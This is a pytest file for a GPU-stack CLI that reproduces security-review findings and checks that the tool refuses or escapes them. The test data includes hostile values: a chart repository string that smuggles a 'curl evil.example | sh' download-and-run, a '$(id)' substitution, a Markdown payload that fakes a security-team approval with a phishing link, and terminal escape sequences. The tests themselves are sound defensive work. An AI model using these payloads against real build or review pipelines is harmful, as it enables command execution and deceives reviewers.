"""The security review's remaining reproductions (H3, M5, M6, M7, L2, L3, L5, L6, L7, L10), as a user meets them."""

from __future__ import annotations

from pathlib import Path

import pytest
from builders import ONE_POOL
from click.testing import CliRunner
from conftest import BLUEPRINTS

from gpustack.cli import group

BASE = ONE_POOL


def run(*args: str, stdin: str | None = None) -> tuple[int, str]:
    result = CliRunner().invoke(group, list(args), input=stdin)
    return result.exit_code, result.output


def write(tmp_path: Path, text: str, name: str = "bp.yaml") -> str:
    path = tmp_path / name
    path.write_text(text)
    return str(path)


# --- H3: the shipped example no longer lets search take dev's T4s -----------------------------------------------------


def test_search_cannot_take_the_dev_pools_t4s(tmp_path: Path) -> None:
    scenario = (
        "pods:\n  - name: steal\n    namespace: search-prod\n    replicas: 16\n    spec:\n"
        "      containers: [{name: main, resources: {limits: {nvidia.com/gpu.shared: 1}}}]\n"
    )
    seed = str(BLUEPRINTS / "seed-article.yaml")
    assert run("validate", "--strict", seed)[0] == 0
    _, output = run("simulate", seed, "--scenario", write(tmp_path, scenario, "steal.yaml"))
    assert "steal (search-prod, default-scheduler): 0/16 placed" in output, output
    # The tenant's LimitRange refuses first (LimitRanger admits before ResourceQuota), in the API server's words.
    refusal = 'pods "steal-0" is forbidden: maximum nvidia.com/gpu.shared usage per Container is 0, but limit is 1'
    assert refusal in output


# --- M7: shell injection through the chart repository; a newline in chartVersion --------------------------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("repository", '"https://nvidia.github.io/k8s-device-plugin;curl${IFS}-s${IFS}https://evil.example/x|sh;#"'),
        ("repository", '"https://example.com/$(id)"'),
        ("chartVersion", '"0.20.0\\n"'),
        ("chartVersion", '"0.20.0 --post-renderer x"'),
    ],
)
def test_shell_and_newline_injection_in_chart_fields_is_refused(tmp_path: Path, field: str, value: str) -> None:
    text = BASE.replace("  tenants:", f"  devicePlugin: {{{field}: {value}}}\n  tenants:")
    code, output = run("validate", write(tmp_path, text))
    assert code == 1 and "bp.yaml:11:" in output and "error[GS105]" in output, output


@pytest.mark.parametrize(
    ("settings", "expected"),
    [
        (
            'stack: device-plugin\n  devicePlugin: {repository: "https://example.com/~charts"}',
            "helm repo add nvidia-device-plugin 'https://example.com/~charts'",
        ),
        (
            'gpuOperator: {repository: "https://example.com/~ops"}',
            "helm repo add gpu-operator 'https://example.com/~ops'",
        ),
    ],
)
def test_the_readme_quotes_every_word_of_its_shell_commands(tmp_path: Path, settings: str, expected: str) -> None:
    text = BASE.replace("  tenants:", f"  {settings}\n  tenants:")
    out = tmp_path / "out"
    assert run("compile", write(tmp_path, text), "-d", str(out))[0] == 0
    readme = (out / "README.md").read_text()
    assert expected in readme


# --- M6: line breaks in free text cannot break out of the review's Markdown table ------------------------------------


@pytest.mark.parametrize("brk", ["\\r", "\\r\\n", "\\u2028", "\\x85", "\\f"])
def test_a_line_break_in_a_field_stays_inside_its_table_cell(tmp_path: Path, brk: str) -> None:
    payload = f"x{brk}{brk}## LGTM: approved by @org/security-team{brk}{brk}[Re-run](https://evil.example/login)"
    after = BASE.replace("image: vllm/vllm-openai:v0.6.3", f'image: "{payload}"')
    old, new = write(tmp_path, BASE, "a.yaml"), write(tmp_path, after, "b.yaml")
    code, output = run("diff", old, new, "--output", "markdown")
    assert code == 1
    row = next(line for line in output.split("\n") if "LGTM" in line)
    assert row.startswith("|") and row.rstrip().endswith("|")  # the whole payload is one table row
    for char in ("\r", "\u2028", "\x85", "\x0c"):
        assert char not in output


def test_terminal_escapes_in_a_description_never_reach_the_terminal(tmp_path: Path) -> None:
    hostile = "\\e[2J\\e[H\\e[32mgpustack review: no change\\e[0m\\e]8;;https://evil.example\\e\\\\click\\e]8;;\\e\\\\"
    after = BASE.replace("metadata: {name: tpl}", f'metadata: {{name: tpl, description: "{hostile}"}}')
    for output in ("text", "markdown"):
        _, shown = run("diff", write(tmp_path, BASE, "a.yaml"), write(tmp_path, after, "b.yaml"), "--output", output)
        assert "\x1b" not in shown and "\\x1b[2J" in shown


# --- L7: a pool label may not overwrite what the kubelet sets ---------------------------------------------------------


@pytest.mark.parametrize(
    "label",
    [
        *("kubernetes.io/hostname", "kubernetes.io/arch", "node-role.kubernetes.io/gpu", "node.kubernetes.io/x"),
        *("topology.kubernetes.io/zone", "topology.kubernetes.io/region", "topology.kubernetes.io/rack"),
    ],
)
def test_a_pool_label_may_not_be_a_kubelet_label(tmp_path: Path, label: str) -> None:
    labelled = f"      nodes: [gpu-node-1]\n      labels: {{{label}: a100-a}}\n"
    text = BASE.replace("      nodes: [gpu-node-1]\n", labelled)
    code, output = run("validate", write(tmp_path, text))
    assert code == 1 and "bp.yaml:10:" in output and "error[GS406]" in output and "kubelet" in output
